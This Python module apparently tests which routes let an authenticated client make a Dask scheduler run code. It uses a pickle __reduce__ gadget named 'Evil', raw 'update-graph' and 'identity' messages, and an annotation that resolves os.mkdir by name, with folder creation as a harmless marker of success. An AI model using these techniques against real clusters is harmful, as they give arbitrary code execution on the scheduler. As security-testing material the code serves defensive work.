"""What somebody who has the keys of a cluster may send to its scheduler, to have a folder made there."""

from __future__ import annotations

import asyncio
import os
import warnings
from collections.abc import Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any

from dask._expr import LLGExpr
from dask._task_spec import Task
from distributed import Client, Future, Security
from distributed.core import connect
from distributed.protocol.serialize import Serialized, ToPickle, serialize, to_serialize
from distributed.versions import VersionMismatchWarning, get_versions

TOOK_S = 10.0
"""How long an answer may take [s]; where something was refused there may be none."""

_REST = {"keys": {"graph"}, "span_metadata": {}, "internal_priority": None, "submitting_task": None}


class Evil:
    """Makes a folder wherever it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.path,)


def attack(address: str, security: Mapping[str, Any], folder: Path) -> set[str]:
    """Try one way after the other, each for a file or folder of its own name; return the names that are there then."""
    secured = Security(**security)
    asyncio.run(send(address, secured, {"op": "identity", "said": ToPickle(Evil(folder / "message"))}))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", VersionMismatchWarning)  # in which whoever attacks has no interest
        client = Client(address, security=secured, set_as_default=False)
    with client:
        # No `submit`, for which Dask unpickles here what it has pickled.
        graph = Future("graph", client)
        expression = Serialized(*serialize(Evil(folder / "graph"), serializers=["pickle"]))
        client._send_to_scheduler({"op": "update-graph", "expr_ser": expression, **_REST})
        assert graph.exception(TOOK_S) is not None
        with suppress(Exception):  # the error of whoever refuses it
            client.run_on_scheduler(os.mkdir, str(folder / "function"))
        with suppress(Exception):
            client.dump_cluster_state(str(folder / "file"), write_from_scheduler=True)
    asyncio.run(annotate(address, secured, folder / "annotation"))
    return {path.name.partition(".")[0] for path in folder.iterdir()}


async def send(address: str, security: Security, message: Mapping[str, Any]) -> None:
    comm = await connect(address, timeout=TOOK_S, **security.get_connection_args("worker"))
    await comm.write(message)
    with suppress(OSError):
        await comm.read()
    await comm.close()


async def annotate(address: str, security: Security, folder: Path) -> None:
    """Send a task whose annotation names a function: those are called with the key of the task.

    No pickle is needed for that, since a message may name anything that a module of Dask's has imported.
    """
    key = str(folder)
    expression = Serialized(*serialize(to_serialize(LLGExpr({key: Task(key, str)})), on_error="raise"))
    named = {"__Enum__": True, "__module__": "distributed.utils", "__name__": "os", "name": "mkdir"}
    task = {"op": "update-graph", "expr_ser": expression, **_REST, "keys": {key}, "annotations": {"x": named}}
    comm = await connect(address, timeout=TOOK_S, **security.get_connection_args("client"))
    await comm.write({"op": "register-client", "client": "other", "versions": get_versions(), "reply": False})
    await comm.read()
    await comm.write([task])
    said = asyncio.ensure_future(comm.read())
    while not (folder.exists() or said.done()):  # where it is refused, the other side hangs up
        await asyncio.wait({said}, timeout=0.05)
    comm.abort()
    await asyncio.gather(said, return_exceptions=True)
